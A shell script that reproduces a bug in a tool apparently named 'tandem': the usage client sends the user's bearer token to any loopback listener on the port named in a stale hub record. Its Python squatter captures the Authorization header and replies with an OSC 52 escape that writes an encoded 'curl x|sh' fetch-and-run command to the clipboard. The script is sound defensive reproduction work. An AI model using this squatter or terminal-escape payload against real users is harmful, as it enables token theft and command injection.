#!/bin/sh
# Reproduces: `tandem usage` (bin/usage-via-hub) sends the person's hub token to whatever listens on the port that
# ~/.tandem/state/hub.json names, as long as the pid in that record is a live process the person owns. A record
# left by a hub that was killed (SIGKILL, OOM, a reboot-less crash) names a port another local user can bind, and a
# pid the kernel can hand to any later process of the person's. `tandem dashboard` guards against exactly this with
# the hub-proof exchange (LoginApi: "a program squatting on the port cannot make it"); the usage client does not.
# The listener also answers text that the client prints as it is (here an OSC 52 clipboard write).
#
# Run from the checkout: sh repro/usage-client-token-to-squatter.sh   (needs curl and python3; loopback only)
# Prints "REPRODUCED" when the squatter received the token; exits 1 then.
set -eu
ROOT=$(CDPATH='' cd -P "$(dirname "$0")/.." && pwd -P)
tmp=$(mktemp -d)
trap 'kill "$listener" "$sleeper" 2>/dev/null || true; rm -rf "$tmp"' EXIT
mkdir -p "$tmp/home/.tandem/state"
token=abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG
printf '%s\n' "$token" >"$tmp/home/.tandem/token"

# the squatter: an HTTP listener on a loopback port that records the Authorization header it is sent
python3 - "$tmp" <<'PY' &
import http.server, sys, os
tmp = sys.argv[1]
class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        open(os.path.join(tmp, "captured"), "w").write(self.headers.get("Authorization", ""))
        body = b"0 22\n\x1b]52;c;Y3VybCB4fHNo\x07owned\n"
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a): pass
s = http.server.HTTPServer(("127.0.0.1", 0), H)
open(os.path.join(tmp, "port"), "w").write(str(s.server_address[1]))
s.handle_request()
PY
listener=$!
i=0
while [ ! -s "$tmp/port" ] && [ $i -lt 100 ]; do sleep 0.1; i=$((i + 1)); done
port=$(cat "$tmp/port")

# a stale record: any live process of the person's has the pid (here a sleep)
sleep 60 &
sleeper=$!
printf '{"pid": %s, "port": %s}\n' "$sleeper" "$port" >"$tmp/home/.tandem/state/hub.json"

out=$(HOME=$tmp/home sh -c '. "$1/bin/usage-via-hub"; usage_via_hub daily; echo " rc=$?"' sh "$ROOT" 2>&1 || true)
wait "$listener" 2>/dev/null || true
printf 'client printed: %s\n' "$(printf '%s' "$out" | od -c | head -n 3 | tr -s ' ')"
if [ "$(cat "$tmp/captured" 2>/dev/null)" = "Bearer $token" ]; then
  echo "REPRODUCED: the squatter on port $port received 'Authorization: Bearer <the person's token>'"
  exit 1
fi
echo "not reproduced: the squatter got '$(cat "$tmp/captured" 2>/dev/null)'"
